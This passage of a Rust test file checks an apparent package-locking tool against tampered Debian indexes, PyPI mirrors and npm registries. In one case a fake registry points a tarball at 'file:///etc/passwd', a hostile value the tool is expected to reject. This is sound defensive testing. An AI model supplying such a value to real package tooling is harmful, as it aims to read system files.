                said["dist"]["tarball"] = json!("file:///etc/passwd");
                world.bytes("/npm/widget", json!({"versions": {"1.1.0": said}}).to_string());
            },
            &["'file:///etc/passwd' is no address of a tarball"],
        ),
    ]
}

fn controls() -> Vec<Case> {
    let case = |name, command, tamper, words| case(Control, name, command, tamper, words).done();
    vec![
        case("the first lock", LOCK, |_| (), &["appliance.lock:", "2 wheels"]).first(),
        case("nothing new", LOCK, |_| (), &["nothing changed"]),
        case(
            "a new index moves nothing by itself",
            LOCK,
            |world| {
                let newer = Package::new("server", "2.0-1", "Depends: library (>= 1)");
                let suite = &mut world.suites[SECURITY];
                suite.packages.insert("server".to_owned(), newer);
                suite.date += 3600;
            },
            &["~ index trixie-security", "1 changed"],
        ),
        case(
            "what is asked for is updated",
            UPDATE,
            |world| {
                let newer = Package::new("server", "2.0-1", "Depends: library (>= 1)");
                let suite = &mut world.suites[SECURITY];
                suite.packages.insert("server".to_owned(), newer);
                suite.date += 3600;
                world.wheels.push(Wheel::new("app", "2.0", &["lib"]));
                world.npm.push(Tarball::new("widget", "1.2.0", json!({"gear": "^2"})));
                world.page = b"a new page\n".to_vec();
            },
            &["~ debian server 1.0-1", "~ python env app 1.1", "+ npm widget@1.2.0", "~ url page"],
        ),
        case(
            "a bad mirror before a good one",
            LOCK,
            |world| {
                let good = world.suites[MAIN].clone();
                let (path, now) = (good.in_release(), world.now);
                world.bytes(format!("/mirror{path}"), Signer::new(1).sign_at(&good.release(), now));
                world.bytes(format!("/mirror{}", good.by_hash()), good.packed());
                world.put(path, |_| Reply::status(404));
            },
            &["nothing changed"],
        ),
        case(
            "what the first index and registry have not comes from the second",
            LOCK,
            |world| {
                for path in ["/pypi/lib/", "/npm/gear"] {
                    let asked = crate::testserver::Asked {
                        path: path.to_owned(),
                        headers: std::collections::BTreeMap::new(),
                    };
                    let there = world.answer(&asked).body;
                    world.put(path, |_| Reply::status(404));
                    let text = String::from_utf8(there).expect("text");
                    world.bytes(format!("/mirror{path}"), text.replace("../../files", "/files"));
                }
            },
            &["nothing changed"],
        ),
        case(
            "a registry that calls an older version its latest",
            UPDATE,
            |world| {
                world.tags.insert("widget", json!({"latest": "1.0.0"}));
            },
            &["nothing changed"],
        ),
        case(
            "a foreign signature beside the good one",
            LOCK,
            |world| {
                let suite = &world.suites[MAIN];
                let text = suite.release();
                let bodies = [7, 1].map(|key| {
                    crate::signer::sign_text(
                        &Signer::new(key).subkey,
                        &text,
                        Form::new(1, world.now, []),
                    )
                });
                world.bytes(suite.in_release(), crate::signer::clear(&text, &bodies));
            },
            &["appliance.lock"],
        ),
        case(
            "back to an older release, when asked",
            &["lock", "--update", "app", "widget"],
            |world| {
                world.wheels.retain(|it| it.version != "1.1");
                world.npm.remove(0);
            },
            &["~ python env app 1.1", "+ npm widget@1.0.0"],
        ),
    ]
}
